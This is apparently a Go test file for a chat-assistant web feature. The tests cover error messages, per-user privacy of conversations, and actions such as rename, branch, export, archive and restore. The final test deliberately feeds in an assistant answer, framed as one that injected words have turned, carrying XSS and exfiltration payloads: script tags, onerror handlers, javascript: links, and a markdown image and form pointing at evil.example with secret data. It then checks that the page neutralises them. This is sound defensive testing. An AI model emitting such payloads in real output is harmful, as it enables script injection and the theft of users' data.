package chatpages_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/renoz/renoz/internal/integration/claude/claudesim"
)

// TestWhatWasTypedIsKept shows why something could not be asked, beside the words.
func TestWhatWasTypedIsKept(t *testing.T) {
	w := newWorld(t, "")
	w.send("ada", http.MethodPost, "/assistant", "question", "Who owes us most?").want(t, 409, "Who owes us most?", "RENOZ_ANTHROPIC_API_KEY")
	w.send("ada", http.MethodPost, "/assistant", "question", "  ").want(t, 422, "Enter a question.")
	w.send("ada", http.MethodGet, "/assistant").want(t, 200, "No conversations yet") // none was begun in vain
}

// TestConversationsAreOnesOwn hides them from colleagues.
func TestConversationsAreOnesOwn(t *testing.T) {
	w := newWorld(t, claudesim.DefaultKey)
	id := w.asked("What is new?", claudesim.Answer(claudesim.Say("Nothing at all."))).String()
	w.send("ada", http.MethodGet, "/assistant/"+id).want(t, 200, "What is new?", "Nothing at all.")
	for _, part := range []string{"", "/events", "/export"} {
		w.send("bob", http.MethodGet, "/assistant/"+id+part).want(t, 404)
	}
	for _, part := range []string{"", "/stop", "/again", "/pin", "/unpin", "/archive", "/unarchive", "/delete", "/restore", "/branch", "/rename"} {
		w.send("bob", http.MethodPost, "/assistant/"+id+part, "question", "x", "messages", "2", "title", "x").want(t, 404)
	}
}

// TestStepsOfAConversation renames, pins, exports, branches, archives, deletes and
// restores one.
func TestStepsOfAConversation(t *testing.T) {
	w := newWorld(t, claudesim.DefaultKey)
	id := w.asked("What are we owed?", claudesim.Answer(claudesim.Use("invoice_figures", nil)), claudesim.Answer(claudesim.Say("Nothing is **owed**."))).String()
	at := "/assistant/" + id
	w.send("ada", http.MethodPost, at+"/rename", "title", "Money").want(t, 200, "Renamed", "Money")
	w.send("ada", http.MethodPost, at+"/pin").want(t, 200, "Unpin")
	w.send("ada", http.MethodGet, "/assistant?q=owed").want(t, 200, "Money", "Pinned")
	w.send("ada", http.MethodGet, "/assistant?q=battery").want(t, 200, "Nothing matches")
	w.send("ada", http.MethodGet, at+"/export").want(t, 200, "# Money", "What are we owed?", "invoice_figures", "Nothing is **owed**.")
	branch := w.send("ada", http.MethodPost, at+"/branch", "messages", "4")
	branch.want(t, 200, "This is a branch", "<strong>owed</strong>")
	if branch.Path == at || !strings.HasPrefix(branch.Path, "/assistant/") {
		t.Errorf("the branch is at %s", branch.Path)
	}
	w.send("ada", http.MethodPost, at+"/branch", "messages", "2").want(t, 409) // a tool was just asked
	w.send("ada", http.MethodPost, at+"/archive").want(t, 200, "Archived")
	w.send("ada", http.MethodGet, "/assistant?archived=1").want(t, 200, "Money")
	w.send("ada", http.MethodPost, at+"/delete").want(t, 200, at+"/restore", "Undo")
	w.send("ada", http.MethodGet, at).want(t, 404)
	w.send("ada", http.MethodPost, at+"/restore").want(t, 200, "Restored", "Nothing is")
	w.send("ada", http.MethodPost, at+"/stop").want(t, 409)
	w.send("ada", http.MethodPost, at+"/again").want(t, 409)
}

// TestAnswersCanDoNothing shows an answer that somebody else's words have turned:
// nothing of it runs, loads or leads out unseen.
func TestAnswersCanDoNothing(t *testing.T) {
	w := newWorld(t, claudesim.DefaultKey)
	id := w.asked(`<script>alert(1)</script>`, claudesim.Answer(claudesim.Say(
		"![x](https://evil.example/p.png?d=secret) [a](javascript:alert(1)) <img src=x onerror=alert(1)> <script>alert(2)</script> <iframe src=https://evil.example></iframe> <a href=\"data:text/html,x\">d</a>\n\n<form action=https://evil.example><button>go</button></form>")))
	a := w.send("ada", http.MethodGet, "/assistant/"+id.String())
	a.want(t, 200, "&lt;script&gt;alert(1)&lt;/script&gt;")
	_, log, _ := strings.Cut(a.Body, `id="chat-log"`)
	log, _, _ = strings.Cut(log, "</section>")
	for _, bad := range []string{"<script", "<img", "<iframe", "onerror", "javascript:", "data:text", `action="https://evil`, "<form action=https"} {
		if strings.Contains(log, bad) {
			t.Errorf("the answer holds %q", bad)
		}
	}
}
